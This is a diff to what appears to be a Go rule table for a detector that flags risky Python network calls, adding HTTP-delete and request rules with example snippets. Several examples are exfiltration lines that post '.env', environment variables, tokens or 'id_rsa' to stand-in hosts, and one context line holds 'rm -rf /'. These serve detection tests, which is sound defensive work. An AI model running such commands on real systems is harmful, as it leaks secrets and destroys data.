@@ -260,18 +260,41 @@ system("rm -rf /") !> -` + "\n"},
 	{name: "getattr", ret: rGetattr},
 
 	// ---- network
-	{name: "requests.post|requests.put|requests.patch|requests.delete|httpx.post|httpx.put|httpx.patch|httpx.delete|requests.Session#post|requests.Session#put|aiohttp.ClientSession#post", do: aSend, kw: "url", ex: `import requests; requests.post("https://example.com/hook", data=open(".env").read()) => send:http https://example.com/hook` + "\n" +
+	{name: "requests.post|requests.put|requests.patch|httpx.post|httpx.put|httpx.patch|session#post|session#put|session#patch", do: aSend, kw: "url", ex: `import requests; requests.post("https://example.com/hook", data=open(".env").read()) => send:http https://example.com/hook` + "\n" +
+		`import requests; requests.post("https://api.example.com/projects/42/delete") => destroy:http https://api.example.com/projects/42/delete` + "\n" +
+		`import requests; requests.post(BASE + "/v1/repos/x/destroy", json={}) => destroy:http {BASE}/v1/repos/x/destroy` + "\n" +
+		`import httpx; httpx.post("https://api.example.com/v1/items/7:delete") => destroy:http https://api.example.com/v1/items/7:delete` + "\n" +
+		`import requests; requests.post("https://api.example.com/search?q=delete", json={"q": "delete"}) !> destroy:http https://api.example.com/search?q=delete` + "\n" +
+		`import requests; requests.post("https://example.com/docs/deleting-things") !> destroy:http https://example.com/docs/deleting-things` + "\n" +
 		`import requests; requests.post("https://example.com/hook", data=open(".env").read()) => read:send .env` + "\n" +
 		`import requests, os; requests.post("https://x.example/c", json=dict(os.environ)) => env:send` + "\n" +
 		`import httpx; httpx.put(url, content=b"x") => send:http {url}` + "\n" +
 		`import requests; requests.get("https://example.com") !> -` + "\n"},
-	{name: "requests.get|requests.head|httpx.get|requests.request|httpx.request", do: aFetch, kw: "url", ex: `import requests, os; requests.get("https://x.example/?t=" + os.environ["TOKEN"]) => var:send TOKEN` + "\n" +
+	{name: "requests.Session|requests.session|httpx.Client|httpx.AsyncClient|aiohttp.ClientSession", ret: rObjOf, opt: "session"},
+	{name: "requests.delete|httpx.delete|session#delete", do: aHTTPDelete, kw: "url", ex: `import requests; requests.delete("https://api.example.com/projects/42") => destroy:http https://api.example.com/projects/42` + "\n" +
+		`import requests as r; r.delete(url=URL) => destroy:http {URL}` + "\n" +
+		`import httpx; httpx.delete("https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`import requests; s = requests.Session(); s.delete("https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`import httpx; c = httpx.Client(); c.delete("https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`import requests; requests.get("https://api.example.com/projects/42/delete") !> destroy:http https://api.example.com/projects/42/delete` + "\n" +
+		`from unittest import mock; mock.patch("requests.delete") !> -` + "\n" +
+		`import requests_mock; m = requests_mock.Mocker(); m.delete("https://api.example.com/x", status_code=204) !> -` + "\n" +
+		`import responses; responses.add(responses.DELETE, "https://api.example.com/x") !> -` + "\n"},
+	{name: "requests.request|httpx.request|session#request", do: aRequest, arg: 1, kw: "url", ex: `import requests; requests.request("DELETE", "https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`import httpx; httpx.request(method="delete", url="https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`import requests; requests.request("POST", "https://api.example.com/x", data=open(".env").read()) => read:send .env` + "\n" +
+		`import requests; requests.request("GET", "https://api.example.com/x") !> -` + "\n"},
+	{name: "requests.get|requests.head|httpx.get", do: aFetch, kw: "url", ex: `import requests, os; requests.get("https://x.example/?t=" + os.environ["TOKEN"]) => var:send TOKEN` + "\n" +
 		`import requests; requests.get("https://x.example/api", params={"q": "a"}) => send:http https://x.example/api` + "\n" +
 		`import requests; requests.get("https://pypi.org/simple") !> send:http https://pypi.org/simple` + "\n"},
 	{name: "urllib.request.urlopen|urllib.request.Request|urllib2.urlopen|urllib2.Request", do: aFetch, kw: "url", ret: rURL, ex: `import urllib.request as u; u.urlopen("https://x.example/up", data=open("id_rsa", "rb").read()) => send:http https://x.example/up` + "\n" +
+		`import urllib.request as u; u.urlopen(u.Request("https://api.example.com/x", method="DELETE")) => destroy:http https://api.example.com/x` + "\n" +
+		`import urllib.request as u; u.urlopen(u.Request("https://api.example.com/x", method="PUT", data=b"{}")) !> destroy:http https://api.example.com/x` + "\n" +
 		`from urllib.request import urlopen; urlopen("https://example.com").read() !> send:http https://example.com` + "\n"},
 	{name: "http.client.HTTPConnection|http.client.HTTPSConnection", ret: rURL, kw: "host"},
-	{name: "URL#request", do: aSend, arg: -1, ex: `import http.client; c = http.client.HTTPSConnection("x.example"); c.request("POST", "/", body="k") => send:http x.example` + "\n" +
+	{name: "URL#request", do: aRequest, arg: -1, ex: `import http.client; c = http.client.HTTPSConnection("x.example"); c.request("POST", "/", body="k") => send:http x.example` + "\n" +
+		`import http.client; c = http.client.HTTPSConnection("api.example.com"); c.request("DELETE", "/projects/42") => destroy:http api.example.com/projects/42` + "\n" +
+		`import http.client; c = http.client.HTTPSConnection("api.example.com"); c.request("GET", "/projects/42/delete") !> destroy:http api.example.com/projects/42/delete` + "\n" +
 		`import http.client; c = http.client.HTTPSConnection("x.example") !> send:http x.example` + "\n"},
 	{name: "socket.create_connection", do: aConnect, kw: "address", opt: "raw", ret: rSocket, ex: `import socket; socket.create_connection(("203.0.113.9", 9001)) => send:raw 203.0.113.9` + "\n" +
 		`import socket; socket.gethostname() !> -` + "\n"},
